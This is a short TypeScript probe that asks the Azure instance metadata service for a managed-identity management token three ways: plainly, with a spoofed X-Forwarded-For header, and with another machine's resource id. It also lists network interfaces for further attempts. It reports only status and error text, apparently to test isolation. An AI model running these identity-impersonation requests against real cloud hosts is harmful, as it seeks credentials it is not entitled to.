/**
 * Runs inside a machine and tries to be another one, whose resource id is the argument. Prints one JSON object: what each attempt
 * was answered, and which network interfaces there are to try others over.
 */
import { networkInterfaces } from 'node:os';

const [otherMachine = ''] = process.argv.slice(2);
const query = 'api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F';
const endpoint = `http://169.254.169.254/metadata/identity/oauth2/token?${query}`;
const attempts: Readonly<Record<string, () => Promise<string>>> = {
  plain: () => ask(endpoint, {}),
  forwarded: () => ask(endpoint, { 'X-Forwarded-For': '10.0.0.4' }),
  named: () => ask(`${endpoint}&msi_res_id=${encodeURIComponent(otherMachine)}`, {}),
};

const answers: Record<string, unknown> = { interfaces: Object.keys(networkInterfaces()) };
for (const [name, attempt] of Object.entries(attempts)) answers[name] = await attempt();
console.log(JSON.stringify(answers));

async function ask(url: string, headers: Readonly<Record<string, string>>): Promise<string> {
  const response = await fetch(url, { headers: { Metadata: 'true', ...headers } });
  const body = (await response.json()) as { error_description?: string };
  return `${response.status} ${body.error_description}`;
}
